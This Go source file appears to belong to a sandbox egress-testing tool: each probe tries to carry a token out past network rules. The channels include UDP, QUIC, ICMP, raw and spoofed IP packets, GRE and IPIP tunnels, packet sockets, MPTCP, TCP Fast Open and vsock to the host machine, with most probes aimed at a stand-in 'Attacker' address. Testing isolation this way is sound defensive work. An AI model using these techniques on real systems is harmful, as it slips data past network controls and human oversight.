package probes

import (
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	datagramCategory = "QUIC and UDP"
	icmpCategory     = "ICMP"
	socketCategory   = "Raw and packet sockets"
	streamCategory   = "MPTCP, TCP fast open"
	vsockCategory    = "vsock"
)

// quic begins like an Initial packet; RFC 9000 section 17.2.2.
const quic = "\xc3\x00\x00\x00\x01\x08TOKENxx"

func datagramProbes() []Probe {
	add := func(name, what string, try func(Aim) error) Probe {
		return Probe{Name: "udp-" + name, Category: datagramCategory, What: what, Try: try}
	}
	return []Probe{
		add("quic-name", "QUIC to an allowed name", func(a Aim) error {
			at, err := address(goodName)
			if err != nil {
				return err
			}
			return udp(a, join(at, 443), quic)
		}),
		add("quic-address", "QUIC to an address", func(a Aim) error { return udp(a, CDN+":443", quic) }),
		add("quic-ipv6", "QUIC by IPv6", func(a Aim) error { return udp(a, join(CDN6, 443), quic) }),
		add("attacker", "a datagram to the attacker", tell("udp", Attacker+":4444")),
		add("ntp", "a question for the time", tell("udp", Attacker+":123")),
		add("syslog", "a line of log", tell("udp", Attacker+":514")),
		add("wireguard", "a tunnel", tell("udp", Attacker+":51820")),
		add("other-port", "another port of an allowed address", tell("udp", Datagram+":4501")),
		add("neighbour", "the neighbour of an allowed address", tell("udp", "198.41.0.6:4500")),
		add("beside", "one socket, first to where it may and then elsewhere", beside),
		add("many", "two datagrams from a socket that is connected to nobody, one to where it may", many),
		add("reconnect", "a socket that is connected to where it may, then to elsewhere", reconnect),
		add("lite", "UDP-Lite", protocolSocket(unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE)),
		add("big", "a datagram in fragments", func(a Aim) error { return udp(a, Attacker+":4444", "TOKEN"+strings.Repeat("x", 9000)) }),
		add("segments", "one datagram that the kernel cuts up", segmented),
	}
}

func udp(a Aim, to, text string) error {
	c, err := dial("udp", to)
	if err != nil {
		return err
	}
	_, err = speak(c, []byte(strings.ReplaceAll(text, "TOKEN", a.Token)))
	return err
}

var allowedDatagram, elsewhere = netip.MustParseAddrPort(Datagram + ":4500"), netip.MustParseAddrPort(Attacker + ":4500")

// beside has an open flow, whose socket then sends elsewhere.
func beside(a Aim) error {
	c, err := net.ListenUDP("udp4", nil)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(patience))
	buf := make([]byte, 2048)
	for _, to := range []netip.AddrPort{allowedDatagram, elsewhere} {
		text := []byte("first")
		if to == elsewhere {
			text = []byte(a.Token)
		}
		if _, err := c.WriteToUDPAddrPort(text, to); err != nil {
			return err
		}
		if _, _, err := c.ReadFromUDPAddrPort(buf); err != nil {
			return err
		}
	}
	return nil
}

func many(a Aim) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	if err := unix.Sendmsg(fd, []byte("first"), nil, sockaddr(allowedDatagram), 0); err != nil {
		return err
	}
	return unix.Sendmsg(fd, []byte(a.Token), nil, sockaddr(elsewhere), 0)
}

func sockaddr(a netip.AddrPort) unix.Sockaddr {
	if a.Addr().Is4() {
		return &unix.SockaddrInet4{Addr: a.Addr().As4(), Port: int(a.Port())}
	}
	return &unix.SockaddrInet6{Addr: a.Addr().As16(), Port: int(a.Port())}
}

func reconnect(a Aim) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	tv := unix.NsecToTimeval(int64(patience))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	buf := make([]byte, 2048)
	for _, to := range []netip.AddrPort{allowedDatagram, elsewhere} {
		text := []byte("first")
		if to == elsewhere {
			text = []byte(a.Token)
		}
		if err := unix.Connect(fd, sockaddr(to)); err != nil {
			return err
		}
		if _, err := unix.Write(fd, text); err != nil {
			return err
		}
		if _, err := unix.Read(fd, buf); err != nil {
			return err
		}
	}
	return nil
}

// udpSegment is UDP_SEGMENT of linux/udp.h.
const udpSegment = 103

func segmented(a Aim) error {
	c, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(elsewhere))
	if err != nil {
		return err
	}
	if err := setOption(c, unix.SOL_UDP, udpSegment, 64); err != nil {
		return err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	_, err = speak(c, []byte(strings.Repeat(a.Token+" ", 20)))
	return err
}

// protocolSocket sends the token to the attacker through a socket of an uncommon protocol.
func protocolSocket(kind, proto int) func(Aim) error {
	return func(a Aim) error {
		return onSocket(unix.AF_INET, kind, proto, func(fd int) error {
			to := netip.MustParseAddrPort(Attacker + ":443")
			if err := unix.Connect(fd, sockaddr(to)); err != nil {
				return err
			}
			_, err := unix.Write(fd, []byte(a.Token))
			return err
		})
	}
}

func onSocket(domain, kind, proto int, f func(fd int) error) error {
	fd, err := unix.Socket(domain, kind|unix.SOCK_CLOEXEC, proto)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	return f(fd)
}

// rawTo sends a payload of an IP protocol.
func rawTo(proto int, head []byte) func(Aim) error {
	return func(a Aim) error {
		return onSocket(unix.AF_INET, unix.SOCK_RAW, proto, func(fd int) error {
			return unix.Sendto(fd, append(append([]byte(nil), head...), a.Token...), 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(Attacker).As4()})
		})
	}
}

// wholePacket is an IPv4 packet with a UDP datagram, made by hand.
func wholePacket(token, from string) []byte {
	datagram := binary.BigEndian.AppendUint16(nil, 4000)
	datagram = binary.BigEndian.AppendUint16(datagram, 4444)
	datagram = binary.BigEndian.AppendUint16(datagram, uint16(8+len(token)))
	datagram = append(append(datagram, 0, 0), token...)
	head := []byte{0x45, 0, 0, 0, 0, 1, 0, 0, 64, unix.IPPROTO_UDP, 0, 0}
	binary.BigEndian.PutUint16(head[2:], uint16(20+len(datagram)))
	src, dst := netip.MustParseAddr(from).As4(), netip.MustParseAddr(Attacker).As4()
	head = append(append(head, src[:]...), dst[:]...)
	sum := uint32(0)
	for i := 0; i < len(head); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(head[i:]))
	}
	sum = sum>>16 + sum&0xffff
	binary.BigEndian.PutUint16(head[10:], ^uint16(sum+sum>>16))
	return append(head, datagram...)
}

// onWire sends a packet through a packet socket on the interface that leads out.
func onWire(kind int) func(Aim) error {
	return func(a Aim) error {
		ifs, err := net.Interfaces()
		if err != nil {
			return err
		}
		last := ifs[0]
		for _, i := range ifs {
			if i.Flags&net.FlagUp != 0 && (strings.HasPrefix(i.Name, "lab") || last.Flags&net.FlagUp == 0) {
				last = i
			}
		}
		return onSocket(unix.AF_PACKET, kind, 0, func(fd int) error {
			packet := wholePacket(a.Token, HostUplink)
			to := &unix.SockaddrLinklayer{Protocol: 0x0008, Ifindex: last.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
			if kind == unix.SOCK_RAW {
				packet = append([]byte{255, 255, 255, 255, 255, 255, 2, 2, 2, 2, 2, 2, 8, 0}, packet...)
			}
			return unix.Sendto(fd, packet, 0, to)
		})
	}
}

func socketProbes() []Probe {
	raw := func(name, what string, try func(Aim) error) Probe {
		return Probe{Name: "raw-socket-" + name, Category: socketCategory, What: what, Try: try}
	}
	icmp := func(name, what string, try func(Aim) error) Probe {
		return Probe{Name: "icmp-" + name, Category: icmpCategory, What: what, Try: try}
	}
	made := func(name, what, category string, domain, kind, proto int) Probe {
		return Probe{Name: name, Category: category, What: what, Tokenless: true, Try: func(Aim) error {
			return onSocket(domain, kind, proto, func(int) error { return nil })
		}}
	}
	echo := []byte{8, 0, 0, 0, 0, 1, 0, 1}
	return []Probe{
		icmp("raw", "an echo request from a raw socket", rawTo(unix.IPPROTO_ICMP, echo)),
		icmp("ping", "an echo request from a socket for that", ping(unix.AF_INET, unix.IPPROTO_ICMP, Attacker, 8)),
		icmp("ping-6", "the same by IPv6", ping(unix.AF_INET6, unix.IPPROTO_ICMPV6, Attacker6, 128)),
		icmp("allowed-host", "an echo request to an address that a rule allows for TCP", ping(unix.AF_INET, unix.IPPROTO_ICMP, Database, 8)),
		icmp("neighbour", "an echo request to the neighbour of an address that a rule allows them to", ping(unix.AF_INET, unix.IPPROTO_ICMP, "198.41.0.6", 8)),
		icmp("other-message", "another message of ICMP to an address that a rule allows echo requests to", func(a Aim) error {
			return onSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, func(fd int) error {
				return unix.Sendto(fd, append([]byte{13, 0, 0, 0, 0, 1, 0, 1}, a.Token...), 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(Pingable).As4()})
			})
		}),
		icmp("udp", "a datagram there", tell("udp", Pingable+":4444")),
		icmp("tcp", "a connection there", tell("tcp", Pingable+":443")),
		icmp("provoked", "a datagram whose time to live is over on the way, for the error it makes", func(a Aim) error {
			c, err := dial("udp", Attacker+":33434")
			if err != nil {
				return err
			}
			if err := setOption(c, unix.IPPROTO_IP, unix.IP_TTL, 2); err != nil {
				return err
			}
			_, err = speak(c, []byte(a.Token))
			return err
		}),
		raw("tcp", "a TCP packet by hand", rawTo(unix.IPPROTO_TCP, make([]byte, 20))),
		raw("whole", "a whole IP packet by hand", func(a Aim) error {
			return onSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, func(fd int) error {
				return unix.Sendto(fd, wholePacket(a.Token, HostUplink), 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(Attacker).As4()})
			})
		}),
		raw("spoofed", "the same from another's address", func(a Aim) error {
			return onSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, func(fd int) error {
				return unix.Sendto(fd, wholePacket(a.Token, "23.92.16.9"), 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(Attacker).As4()})
			})
		}),
		raw("gre", "a tunnel of protocol 47", rawTo(unix.IPPROTO_GRE, []byte{0, 0, 8, 0})),
		raw("esp", "protocol 50", rawTo(unix.IPPROTO_ESP, make([]byte, 8))),
		raw("igmp", "a group's message", rawTo(unix.IPPROTO_IGMP, make([]byte, 8))),
		raw("sctp", "SCTP by hand", rawTo(unix.IPPROTO_SCTP, make([]byte, 12))),
		raw("253", "a protocol for experiments", rawTo(253, nil)),
		raw("ipip", "a packet in a packet", func(a Aim) error { return rawTo(unix.IPPROTO_IPIP, wholePacket(a.Token, HostUplink))(a) }),
		raw("packet", "a packet socket", onWire(unix.SOCK_DGRAM)),
		raw("frame", "a frame with its Ethernet head", onWire(unix.SOCK_RAW)),
		made("raw-socket-old-packet", "SOCK_PACKET, the old way", socketCategory, unix.AF_INET, unix.SOCK_PACKET, 0x0300),
		made("raw-socket-xdp", "an XDP socket", socketCategory, unix.AF_XDP, unix.SOCK_RAW, 0),
		made("raw-socket-sctp-stream", "SCTP, the kernel's", socketCategory, unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP),
		made("raw-socket-dccp", "DCCP", socketCategory, unix.AF_INET, unix.SOCK_DCCP, unix.IPPROTO_DCCP),
		{Name: "mptcp-attacker", Category: streamCategory, What: "MPTCP to the attacker", Try: protocolSocket(unix.SOCK_STREAM, unix.IPPROTO_MPTCP)},
		{Name: "mptcp-second-path", Category: streamCategory, What: "MPTCP at all: its second path would be the kernel's own", Tokenless: true, Try: func(Aim) error {
			return onSocket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP, func(int) error { return nil })
		}},
		{Name: "tfo-sendto", Category: streamCategory, What: "data in the first packet, by MSG_FASTOPEN", Try: fastOpen},
		{Name: "tfo-connect", Category: streamCategory, What: "data in the first packet, by TCP_FASTOPEN_CONNECT", Try: func(a Aim) error {
			return onSocket(unix.AF_INET, unix.SOCK_STREAM, 0, func(fd int) error {
				if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
					return err
				}
				return dialogue(fd, netip.MustParseAddrPort(Attacker+":443"), a.Token)
			})
		}},
		made("vsock-stream", "a socket to the machine around this one", vsockCategory, unix.AF_VSOCK, unix.SOCK_STREAM, 0),
		made("vsock-datagram", "the same for datagrams", vsockCategory, unix.AF_VSOCK, unix.SOCK_SEQPACKET, 0),
		{Name: "vsock-connect", Category: vsockCategory, What: "a connection to port 1024 of the machine around this one", Tokenless: true, Try: func(Aim) error {
			return onSocket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0, func(fd int) error {
				err := unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 1024})
				if errors.Is(err, unix.EINPROGRESS) || errors.Is(err, unix.ECONNRESET) || errors.Is(err, unix.ENODEV) {
					return nil // the machine was asked, or there is none
				}
				return err
			})
		}},
	}
}

// dialogue connects, says the token and expects something back.
func dialogue(fd int, to netip.AddrPort, token string) error {
	tv := unix.NsecToTimeval(int64(patience))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	if err := unix.Connect(fd, sockaddr(to)); err != nil {
		return err
	}
	if _, err := unix.Write(fd, []byte(token)); err != nil {
		return err
	}
	n, err := unix.Read(fd, make([]byte, 2048))
	if n == 0 && err == nil {
		err = unix.ECONNRESET
	}
	return err
}

func fastOpen(a Aim) error {
	return onSocket(unix.AF_INET, unix.SOCK_STREAM, 0, func(fd int) error {
		tv := unix.NsecToTimeval(int64(patience))
		if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
			return err
		}
		if err := unix.Sendto(fd, []byte(a.Token), unix.MSG_FASTOPEN, sockaddr(netip.MustParseAddrPort(Attacker+":443"))); err != nil {
			return err
		}
		n, err := unix.Read(fd, make([]byte, 2048))
		if n == 0 && err == nil {
			err = unix.ECONNRESET
		}
		return err
	})
}

func ping(domain, proto int, to string, kind byte) func(Aim) error {
	return func(a Aim) error {
		return onSocket(domain, unix.SOCK_DGRAM, proto, func(fd int) error {
			return dialogue(fd, netip.AddrPortFrom(netip.MustParseAddr(to), 0), string([]byte{kind, 0, 0, 0, 0, 1, 0, 1})+a.Token)
		})
	}
}
